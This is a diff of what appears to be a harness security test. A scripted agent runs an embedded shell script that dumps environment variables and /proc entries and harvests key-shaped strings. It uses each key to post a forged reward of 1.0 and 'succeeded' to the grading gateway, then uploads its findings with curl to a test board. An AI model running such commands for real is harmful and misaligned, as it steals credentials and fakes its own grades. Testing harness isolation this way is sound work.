@@ -5,8 +5,9 @@ one process per attempt, as a CLI agent is: it reads its ``AgentContext`` from i
 environment (the report key from its pipe), lets mini-swe-agent run what the model asks
 with a ``LocalEnvironment`` (which hands every command the whole ``os.environ``, as the
 stock one does), grades the work itself — reward 1 only if ``hello.txt`` holds ``hi`` —
-and reports. The scripted model's one command is ``attack.sh``: everything a tool can
-find, then a reward of 1.0 and ``succeeded`` posted with each key-shaped string found.
+and reports. The scripted model's one command fetches and runs ``ATTACK``: everything a
+tool can find, then a reward of 1.0 and ``succeeded`` posted with each key-shaped string
+found.
 """
 
 from __future__ import annotations
@@ -18,9 +19,11 @@ from pathlib import Path
 from agl.agent import AgentContext
 from tests.harness_tasks import TASK, mini_swe_agent_env, run_mini_swe_agent
 
-# What the model's tool runs (its first argument: where to write what it saw and got).
+# What the model's tool runs (its first argument: the test's board, tests/board.py, where
+# it leaves what it saw and got: nothing else it can write is read by anyone).
 ATTACK = r"""#!/bin/sh
-out="$1"
+board="$1"
+out=/tmp/attack
 {
   echo "== env"; env
   for p in /proc/[0-9]*; do
@@ -50,6 +53,9 @@ while read -r key; do
     -H 'Content-Type: application/json' -d '{"status": "succeeded"}' "$gateway")
   echo "$reward $status $key" >> "$out"
 done < "$out.keys"
+touch "$out"
+curl -s -T "$out.seen" "$board/seen"
+curl -s -T "$out" "$board/found"
 """
 
 
